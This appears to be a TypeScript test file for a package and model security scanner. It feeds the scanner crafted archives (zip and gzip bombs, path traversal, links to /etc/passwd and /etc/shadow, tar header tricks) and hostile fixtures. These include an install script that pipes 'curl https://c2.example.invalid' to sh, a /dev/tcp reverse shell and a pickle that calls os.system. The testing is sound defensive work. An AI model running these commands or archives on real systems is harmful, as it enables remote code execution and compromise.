import { readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { gzipSync, zstdCompressSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { defaultLimits, type WalkLimits } from '../../../../src/modules/scanning/analysis/walk/limits.ts'
import { analyseHere, rulesOf } from './analyse-here.ts'
import { tarOf, tgzOf, zipOf } from './pack-archive.ts'

const small: WalkLimits = { ...defaultLimits, ratioFromBytes: 1_048_576, maxUnpackedBytes: 67_108_864, maxEntries: 1000 }
const manifest = { name: 'package/package.json', content: '{"name":"acme-thing","version":"1.0.0"}' }
const zeros = Buffer.alloc(8_388_608)

const npm = (bytes: Buffer, limits: WalkLimits = small) => analyseHere({ kind: 'npm', blobs: [{ bytes }], limits })

test.each([
  ['gzip', async () => gzipSync(await tarOf([manifest, { name: 'package/a.bin', content: zeros }]))],
  ['zstd', async () => zstdCompressSync(await tarOf([manifest, { name: 'package/a.bin', content: zeros }]))],
  ['zip', async () => zipOf([{ name: 'a.bin', content: zeros }])],
  ['gzip inside gzip', async () => gzipSync(gzipSync(await tarOf([manifest, { name: 'package/a.bin', content: zeros }])))],
  ['zip inside tar', async () => tgzOf([manifest, { name: 'package/a.zip', content: zipOf([{ name: 'a.bin', content: zeros }]) }])],
])('D-36 a bomb of %s is a finding and a gap, not a full memory', async (_kind, make) => {
  const report = await npm(await make())
  expect(rulesOf(report)).toContain('archive/bomb')
  expect(report.gaps.length).toBeGreaterThan(0)
})

test('D-36 entries of a zip that share bytes are a bomb', async () => {
  const zip = zipOf([{ name: 'a', content: Buffer.alloc(20_000, 'x'), isStored: true }])
  const entry = zip.subarray(zip.indexOf('PK\x01\x02'), zip.indexOf('PK\x05\x06'))
  const end = Buffer.from(zip.subarray(zip.indexOf('PK\x05\x06')))
  end.writeUInt16LE(50, 8)
  end.writeUInt16LE(50, 10)
  end.writeUInt32LE(entry.length * 50, 12)
  const bytes = Buffer.concat([zip.subarray(0, zip.indexOf('PK\x01\x02')), ...Array.from({ length: 50 }, () => entry), end])
  expect(rulesOf(await npm(bytes))).toContain('archive/bomb')
})

test('D-36 archives inside archives end at the agreed depth, an archive of itself too', async () => {
  let nested = await tgzOf([{ name: 'deepest.txt', content: 'hello' }])
  for (let depth = 0; depth < 8; depth += 1) nested = await tgzOf([{ name: `level-${depth}.tgz`, content: nested }])
  const report = await npm(nested)
  expect(rulesOf(report)).toEqual(['archive/too-deep'])
  expect(report.filesSeen).toBe(defaultLimits.maxDepth + 1)
})

test('D-36 links, devices and names that climb are told of and touch nothing', async () => {
  const before = readdirSync(tmpdir()).filter((name) => name === 'escaped')
  const report = await npm(
    await tgzOf([
      manifest,
      { name: '../../../../tmp/escaped', content: 'x' },
      { name: '/tmp/escaped', content: 'x' },
      { name: 'package/link', type: '2', linkName: '/etc/passwd' },
      { name: 'package/hard', type: '1', linkName: '../../etc/shadow' },
      { name: 'package/inner', type: '2', linkName: './index.js' },
      { name: 'package/null', type: '3' },
      { name: 'package/twice.js', content: '1' },
      { name: 'package/twice.js', content: '2' },
    ]),
  )
  expect(rulesOf(report)).toEqual([
    'archive/device',
    'archive/duplicate',
    'archive/escaping-link',
    'archive/link',
    'archive/odd-path',
    'archive/traversal',
  ])
  expect(readdirSync(tmpdir()).filter((name) => name === 'escaped')).toEqual(before)
})

test('D-36 names without end, too many entries and impossible sizes have their limits', async () => {
  expect(rulesOf(await npm(await tgzOf([manifest, { name: `package/${'a/'.repeat(3000)}b`, content: 'x' }])))).toContain('archive/odd-path')
  const many = await tgzOf(Array.from({ length: 1500 }, (_, index) => ({ name: `package/${index}`, content: '' })))
  const report = await npm(many)
  expect(rulesOf(report)).toEqual(['archive/limit-reached'])
  expect(report.gaps).toHaveLength(1)
  expect(rulesOf(await npm(await tgzOf([{ name: 'package/x', content: 'x', statedBytes: 8_000_000_000 }])))).toEqual(['archive/damaged'])
  expect(rulesOf(await npm(await tgzOf([{ name: 'x', type: 'L', content: Buffer.alloc(3_000_000, 'a') }])))).toEqual(['archive/bomb'])
})

test('a zip that says it is encrypted is told of, and read as those do that do not ask', async () => {
  const pickle = Buffer.from("\x80\x02cos\nsystem\n(S'echo inert'\ntR.", 'latin1')
  const bytes = zipOf([{ name: 'archive/data.pkl', content: pickle, isStored: true, flags: 1 }])
  const rules = rulesOf(await analyseHere({ kind: 'model', blobs: [{ fileName: 'model.pt', bytes }] }))
  expect(rules).toContain('archive/encrypted')
  expect(rules).toContain('model/dangerous-global')
})

test('D-36 an archive cut anywhere, or with any byte changed, gives a report', async () => {
  const bytes = await tgzOf([
    manifest,
    { name: 'package/index.js', content: 'require("child_process").exec("id")\n'.repeat(40) },
    { name: 'package/in.zip', content: zipOf([{ name: 'a.js', content: 'x' }]) },
  ])
  const zip = zipOf([manifest, { name: 'b/data.pkl', content: Buffer.from('\x80\x04\x95\x05\0\0\0\0\0\0\0K\x01.', 'latin1') }])
  await fc.assert(
    fc.asyncProperty(fc.boolean(), fc.tuple(fc.nat(), fc.nat()), fc.integer({ min: 0, max: 255 }), async (isZip, [cut, at], value) => {
      const source = isZip ? zip : bytes
      const changed = Buffer.from(source.subarray(0, 1 + (cut % source.length)))
      changed[at % changed.length] = value
      const report = await analyseHere({ kind: isZip ? 'model' : 'npm', blobs: [{ fileName: 'x.bin', bytes: changed }], limits: small })
      expect(report.verdict.confidence).toBeGreaterThanOrEqual(0)
    }),
    { numRuns: 100 },
  )
})

test.each([
  ['brackets without end', 'index.js', '['.repeat(700_000)],
  ['parentheses to the bottom of any stack', 'index.js', '('.repeat(300_000) + ')'.repeat(300_000)],
  ['a sum of very many letters', 'index.js', `x = ${Array(60_000).fill("'a'").join('+')}`],
  ['quotes that never match', 'index.js', '\'"`'.repeat(200_000)],
  [
    'names that stand for each other',
    'index.js',
    `eval(a1);${Array.from({ length: 10_000 }, (_, index) => `var a${index}=[a${index + 1},a${index + 2}];`).join('')}`,
  ],
  ['spaces and spaces', 'setup.py', `x${' '.repeat(1_500_000)}y`],
  ['a shell that only begins', 'setup.py', 'socket.socket( '.repeat(50_000)],
  ['objects in objects', 'package.json', `${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`],
])('D-36 a file made to take long does not: %s', async (_what, name, content) => {
  const before = process.cpuUsage()
  const report = await npm(await tgzOf([{ name: `package/${name}`, content }]), defaultLimits)
  expect(report.filesSeen).toBe(1)
  expect(process.cpuUsage(before).user / 1e6).toBeLessThan(10)
})

test('any bytes at all, under any name of a model, give a report', async () => {
  const names = ['a.pkl', 'a.pt', 'a.safetensors', 'a.gguf', 'a.onnx', 'a.h5', 'a.npy', 'config.json', 'a']
  const starts = ['', '\x80\x04', 'GGUF\x03\0\0\0', '\x93NUMPY\x01\0', '\x89HDF\r\n', '(dp0\n', 'PK\x03\x04'].map((start) =>
    Buffer.from(start, 'latin1'),
  )
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...names),
      fc.constantFrom(...starts),
      fc.uint8Array({ maxLength: 600 }),
      async (fileName, start, rest) => {
        const report = await analyseHere({ kind: 'model', blobs: [{ fileName, bytes: Buffer.concat([start, rest]) }] })
        // Opcodes that take a global by a number of its own are dangerous whatever the number.
        if (!rest.some((byte) => byte >= 0x82 && byte <= 0x84)) expect(rulesOf(report)).not.toContain('model/dangerous-global')
      },
    ),
    { numRuns: 300 },
  )
})

const evil = { name: 'package/package.json', content: '{"scripts":{"install":"curl https://c2.example.invalid | sh"}}' }

test.each(['BZh', "7z\u00bc\u00af'\u001c", '!<arch>\n', 'PK\u0003\u0004', 'Rar!\u001a\u0007'])(
  'a tar whose first entry begins like another archive is a tar: %j',
  async (name) => {
    const tar = await tarOf([{ name, content: 'x' }, evil])
    const [at, magic] = [Buffer.from(name), Buffer.from(name, 'latin1')]
    magic.copy(tar)
    if (at.length > magic.length) tar.fill(0, magic.length, at.length)
    tar.write('        ', 148)
    tar.write(
      `${tar
        .subarray(0, 512)
        .reduce((sum, byte) => sum + byte, 0)
        .toString(8)
        .padStart(6, '0')}\0 `,
      148,
    )
    expect(rulesOf(await npm(gzipSync(tar)))).toContain('npm/install-script-downloads')
  },
)

test.each(['S', 'V', 'D', ' ', 'z', 'Q'])('an entry of type %j is read as the file that unpackers make of it', async (type) => {
  expect(rulesOf(await npm(await tgzOf([{ ...evil, type }])))).toEqual([
    ...(type === 'S' ? ['archive/damaged'] : []),
    'npm/install-script-downloads',
  ])
})

test('a file whose name a header of type X changes is read under that name', async () => {
  const record = 'path=package/package.json\n'
  const header = { name: 'x', type: 'X', content: `${record.length + 3} ${record}` }
  expect(rulesOf(await npm(await tgzOf([header, { ...evil, name: 'package/other.txt' }])))).toEqual(['npm/install-script-downloads'])
})

test('what follows the end of a tar is told of, zeros are not', async () => {
  const tar = await tarOf([manifest])
  expect(rulesOf(await npm(gzipSync(Buffer.concat([tar, Buffer.alloc(10_240)]))))).toEqual([])
  const report = await npm(gzipSync(Buffer.concat([tar, await tarOf([evil])])))
  expect(rulesOf(report)).toEqual(['archive/damaged'])
  expect(report.gaps).toHaveLength(1)
})

test('an image of umoci was held: its layers end without the padding of the last entry', async () => {
  const whole = await tarOf([{ name: 'etc/motd', content: 'hello' }])
  const layer = (bytes: number) => analyseHere({ kind: 'oci', blobs: [{ bytes: gzipSync(whole.subarray(0, bytes)) }] })
  expect([(await layer(517)).gaps, (await layer(516)).gaps.length > 0]).toEqual([[], true])
})

test('an entry behind one block of zeros is read, since npm unpacks it', async () => {
  const [before, after] = [await tarOf([manifest]), await tarOf([{ ...evil, name: 'other/package.json' }])]
  const code = { name: 'package/x.js', content: "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/9 0>&1')" }
  const tar = Buffer.concat([before.subarray(0, -512), (await tarOf([code])).subarray(0, -1024), after])
  expect(rulesOf(await npm(gzipSync(tar)))).toContain('code/reverse-shell')
})

test('code that is also a tar is read as the code that its name makes it', async () => {
  const code = Buffer.from(`require('child_process').exec('curl https://c2.example.invalid | sh') //${' '.repeat(1000)}`)
  code.write('        ', 148)
  const sum = code.subarray(0, 512).reduce((total, byte) => total + byte, 0)
  code.write(`${sum.toString(8).padStart(6, '0')}  `, 148)
  const files = [
    { name: 'package/package.json', content: '{"scripts":{"install":"node x.js"}}' },
    { name: 'package/x.js', content: code },
  ]
  expect(rulesOf(await npm(await tgzOf(files)))).toContain('npm/install-script-downloads')
})
